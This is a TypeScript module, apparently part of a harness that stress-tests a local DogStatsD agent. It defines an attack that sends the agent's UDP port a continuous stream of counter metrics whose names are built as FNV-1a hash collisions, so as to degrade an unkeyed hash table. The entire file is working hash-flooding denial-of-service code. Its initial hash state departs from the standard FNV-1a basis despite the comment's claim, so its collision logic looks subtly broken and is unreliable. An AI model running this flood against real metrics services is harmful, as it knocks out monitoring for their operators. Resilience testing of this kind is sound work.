import { createSocket } from 'node:dgram';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const NAMES = 60_000;
const LINES = 400;
const PAUSE_MS = 20;
const PRIME = 0x01000193;

/** DogStatsD names of equal FNV-1a hash, which is the hash that a table without a key is likely to have. */
export const collidingNames: Attack = async ({ dogstatsdPort }, signal) => {
  const socket = createSocket('udp4');
  const name = colliding();
  for (let i = 0; !signal.aborted; ) {
    const lines: string[] = [];
    while (lines.length < LINES) lines.push(`${name(i++ % NAMES)}:1|c`);
    await new Promise((resolve) => socket.send(lines.join('\n'), dogstatsdPort, '127.0.0.1', resolve));
    await delay(PAUSE_MS);
  }
  socket.close();
};

/** Returns names that are made of pairs of blocks, which each lead from one state of the hash to one state. */
function colliding(): (i: number) => string {
  const pairs: [string, string][] = [];
  let state = hashed(0x811c9dc5 ^ 1, 'x.');
  while (2 ** pairs.length < NAMES) {
    const seen = new Map<number, string>();
    for (let n = 0; ; n++) {
      const block = (Math.imul(n, 0x9e3779b1) >>> 0).toString(36).padStart(7, '0');
      const next = hashed(state, block);
      const other = seen.get(next);
      seen.set(next, block);
      if (other === undefined) continue;
      pairs.push([other, block]);
      state = next;
      break;
    }
  }
  return (i) => `x.${pairs.map((blocks, bit) => blocks[(i >>> bit) & 1]).join('')}`;
}

function hashed(state: number, text: string): number {
  let hash = state;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), PRIME);
  return hash;
}
